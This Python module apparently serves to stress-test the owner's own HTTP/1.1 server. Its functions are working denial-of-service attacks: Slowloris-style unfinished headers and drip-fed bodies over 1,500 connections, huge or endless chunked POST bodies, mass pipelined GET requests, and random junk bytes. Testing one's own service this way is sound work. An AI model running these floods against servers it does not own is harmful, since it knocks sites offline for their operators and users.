"""The attacks on the owner's pages: HTTP/1.1, as `floods` is for gRPC. More connections than the
listener takes at a time."""

import random
import socket
import time

from floods import again

# The listener takes 1,024.
CONNECTIONS = 1500
# Between two octets of one connection, in seconds.
DRIP = 1.0

POST = b"POST /u/x HTTP/1.1\r\nhost: x\r\ncontent-type: application/x-www-form-urlencoded\r\n"


def dribble(address, head):
    """Holds all connections: each says the head, then an octet now and then; who is hung up on comes
    again."""
    lines = []
    while True:
        begun = time.monotonic()
        lines = [line for line in lines if dripped(line)]
        while len(lines) < CONNECTIONS:
            try:
                line = socket.create_connection(address, timeout=0.2)
                line.setblocking(False)
                line.send(head)
                lines.append(line)
            except OSError:
                break
        time.sleep(max(0.0, begun + DRIP - time.monotonic()))


def dripped(line):
    """Whether the connection lives."""
    try:
        line.send(b"x")
        try:
            return line.recv(65536) != b""
        except BlockingIOError:
            return True
    except OSError:
        line.close()
        return False


def slow_heads(address):
    """heads that never end, 1,500 connections"""
    dribble(address, b"GET / HTTP/1.1\r\nx: ")


def slow_bodies(address):
    """forms that come an octet at a time, 1,500 connections"""
    dribble(address, POST + b"content-length: 60000\r\n\r\n")


@again
def endless_bodies(address):
    """forms without an end, pages that nobody takes, and octets that are no HTTP"""
    with socket.create_connection(address, timeout=2) as line:
        line.settimeout(0.5)
        what = random.randrange(4)
        if what == 0:
            line.sendall(POST + b"content-length: 1000000000000\r\n\r\n")
            for _ in range(100):
                line.sendall(bytes(100_000))
        elif what == 1:
            line.sendall(POST + b"transfer-encoding: chunked\r\n\r\n")
            for _ in range(100):
                line.sendall(b"186a0\r\n" + bytes(100_000) + b"\r\n")
        elif what == 2:
            for _ in range(100):
                line.sendall(b"GET /s/festival HTTP/1.1\r\nhost: x\r\n\r\n" * 1000)
        else:
            line.sendall(random.randbytes(20_000))
            line.recv(100)


ATTACKS = [slow_heads, slow_bodies, endless_bodies]
